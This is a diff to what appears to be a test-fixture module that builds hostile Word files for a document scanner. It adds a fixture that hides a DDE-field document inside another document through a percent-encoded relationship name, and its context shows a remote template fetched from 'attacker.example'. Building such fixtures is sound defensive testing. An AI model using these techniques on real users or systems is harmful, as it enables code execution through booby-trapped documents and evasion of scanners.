@@ -576,3 +576,11 @@ def part_stored_twice_docx() -> bytes:
                 ("attachedTemplate", "http://attacker.example/board-template.dotm", "External")))
             dst.writestr("word/_rels/settings.xml.rels", _relationships())
     return out.getvalue()
+
+
+def embedded_by_encoded_name_docx(target: str = "embeddings/Board%20paper.docx",
+                                  stored: str = "word/embeddings/Board paper.docx") -> bytes:
+    """A document embedding, whole, a document with a DDE field, named by a percent-encoded relationship target
+    (found by a fresh attack: the embedded document was never opened)."""
+    return _docx(parts={"word/_rels/document.xml.rels": _relationships(("package", target, "")),
+                        stored: dde_field_docx()})
